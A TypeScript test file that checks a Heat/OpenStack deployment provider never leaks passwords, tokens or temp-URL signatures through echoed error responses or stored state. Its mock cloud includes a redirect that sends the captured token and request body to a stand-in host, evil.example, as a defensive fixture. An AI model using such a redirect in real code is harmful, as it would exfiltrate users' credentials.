import { describe, expect, test } from "vitest";
import type { Json } from "../../../lib/contracts/json.ts";
import type { Fetch } from "../../../lib/providers/exchange.ts";
import { createHeatOperator } from "../../../lib/providers/heat/index.ts";
import { shown } from "../support.ts";
import { type Cloud, connections, createCloud, handle, ids, inputSecret, intentFor, requestFor } from "./support.ts";

const login = "canary~login.4711/+=";
const key = "canary~key.0815";

const scenarioOf = (flavour: "openstack" | "rackspace") =>
  flavour === "openstack"
    ? { users: [{ ...openstackUser, password: login }] }
    : { users: [{ ...rackspaceUser, apiKey: login }] };
const openstackUser = {
  id: ids.openstack.userId,
  name: ids.openstack.userName,
  password: "",
  grants: [{ projectId: ids.openstack.projectId, roles: ["member"] }],
};
const rackspaceUser = {
  id: ids.rackspace.userId,
  name: ids.rackspace.userName,
  password: "x",
  grants: [{ projectId: ids.rackspace.projectId, roles: ["heat:admin"] }],
};

const forms = ["heat", "keystone", "gateway", "fault", "text", "header", "redirect"] as const;

/** A cloud that says all it was told, wherever it can, in every form; logins alone work. */
function echoing(status: number, form: (typeof forms)[number]) {
  return async (request: Request, next: Fetch): Promise<Response> => {
    if (request.url.endsWith("/tokens")) return await next(request);
    const body = await request.clone().text();
    const told = `${request.headers.get("x-auth-token")} ${body} ${decodeURIComponent(encodeURIComponent(body))} ${request.url}`;
    const say = (value: unknown) => new Response(JSON.stringify(value), { status });
    switch (form) {
      case "heat":
        return say({ code: status, title: told, explanation: told, error: { type: told, message: told } });
      case "keystone":
        return say({ error: { code: status, title: told, message: told } });
      case "gateway":
        return say({ error_code: told, error_msg: told, request_id: told });
      case "fault":
        return say({ [told.slice(0, 50)]: { code: status, message: told, details: told } });
      case "text":
        return new Response(told, { status });
      case "header":
        return new Response("{}", {
          status,
          headers: { "x-openstack-request-id": encodeURIComponent(told).slice(0, 90) },
        });
      case "redirect":
        return new Response(null, {
          status: 307,
          headers: { location: `https://evil.example/?${encodeURIComponent(told)}` },
        });
    }
  };
}

/** Everything that provider and operator give out, whatever comes. */
async function everything(cloud: Cloud, failing: boolean): Promise<string> {
  const config = { group: "script", config: "x", inputs: [{ name: "db" }] };
  const asked = requestFor({ outputs: "full" });
  const input_values = { db: { $secret: "vault:app-db" } };
  const request = { ...asked, fields: { ...asked.fields, deployment: { config, input_values } } };
  const seen: string[] = [];
  const keep = async (run: () => Promise<unknown> | undefined) => {
    try {
      seen.push(JSON.stringify(await run()) ?? "");
    } catch (error) {
      seen.push(shown(error));
    }
  };
  const { provider } = cloud;
  const place =
    cloud.connection.flavour === "rackspace"
      ? `dfw/${ids.rackspace.projectId}`
      : `regionone/${ids.openstack.projectId}`;
  const at: Json = { ...handle, place, signalObject: "drover-x" };
  const basis = provider.basisOf?.(request, cloud.context());
  const intent = intentFor(cloud.time, { configId: handle.configId, derived: true, place });
  const operator = createHeatOperator(cloud.options);
  await keep(async () => basis?.prepare());
  await keep(async () => basis?.create(intentFor(cloud.time, {})));
  await keep(async () => basis?.find(intentFor(cloud.time, {})));
  await keep(() => provider.prepareDeployment(requestFor({ useConfig: "as-is" }), cloud.context()));
  await keep(() => provider.createDeployment(request, intent, cloud.context()));
  await keep(() => provider.findDeployment(request, intent, cloud.context()));
  await keep(() => provider.poll(request, at, intent, cloud.context()));
  await keep(() => provider.report?.(request, at, { status: "FAILED" }, cloud.context()));
  await keep(() => provider.cleanUp?.(request, { handle: at, intents: {} }, cloud.context()));
  await keep(() => provider.check(cloud.context()));
  // Of a success it answers what came; only errors are ours.
  if (failing) await keep(() => operator.deployments.show(handle.deploymentId));
  await keep(() => operator.configs.delete(handle.configId));
  seen.push(JSON.stringify(provider.plan(request)), JSON.stringify(provider));
  return seen.join("\n");
}

const statuses = [200, 400, 401, 403, 404, 409, 413, 429, 500, 503];

describe.each(["openstack", "rackspace"] as const)("no secret comes out of %s again", (flavour) => {
  test.each(statuses.flatMap((status) => forms.map((form) => [status, form] as const)))(
    "in an echo with %i as %s",
    async (status, form) => {
      const cloud = createCloud({
        flavour,
        connection: connections[flavour],
        scenario: scenarioOf(flavour),
        secrets: { "vault:login": login, "vault:temp-url-key": key },
        through: echoing(status, form),
      });
      const all = await everything(cloud, status >= 400);
      const tokens = cloud.sent.flatMap((request) => request.headers.get("x-auth-token") ?? []);
      expect(tokens.length).toBeGreaterThan(8);
      for (const token of tokens) {
        expect(all).not.toContain(token);
        expect(all).not.toContain(token.slice(0, 24));
      }
      expect(all).not.toMatch(/canary~|temp_url_sig=/);
      const bodies = await Promise.all(cloud.sent.map((request) => request.text()));
      const [signature] = bodies.flatMap((body) => /temp_url_sig=([0-9a-f]+)/.exec(body)?.[1] ?? []);
      expect(signature).toBeDefined();
      expect(all).not.toContain(signature);
    },
  );
});

test("no secret stands in what is stored of a whole deployment", async () => {
  const cloud = createCloud({
    scenario: scenarioOf("openstack"),
    secrets: { "vault:login": login },
  });
  const request = requestFor({
    outputs: "full",
    deployment: { input_values: { version: { $secret: "vault:app-db" } } },
  });
  const stored: unknown[] = [];
  const basis = cloud.provider.basisOf?.(request, cloud.context());
  const prepared = await basis?.prepare();
  const result = await basis?.create(intentFor(cloud.time, prepared ?? null));
  const intent = intentFor(cloud.time, await cloud.provider.prepareDeployment(request, cloud.context(), result));
  const started = await cloud.provider.createDeployment(request, intent, cloud.context());
  cloud.emulator.script({ result: "complete", stdout: `it is ${inputSecret}`, outputs: { result: inputSecret } });
  cloud.time.advance(30_000);
  stored.push(prepared, result, intent, started);
  const polled = await cloud.provider.poll(request, started.handle, intent, cloud.context());
  expect(polled).toMatchObject({ kind: "ended", outcome: "succeeded" });
  stored.push(polled);
  const all = JSON.stringify(stored);
  expect(all).toContain("[removed]");
  expect(all).not.toMatch(/canary~|temp_url/);
  expect(JSON.stringify(cloud.emulator.state.configs())).toContain("canary");
});
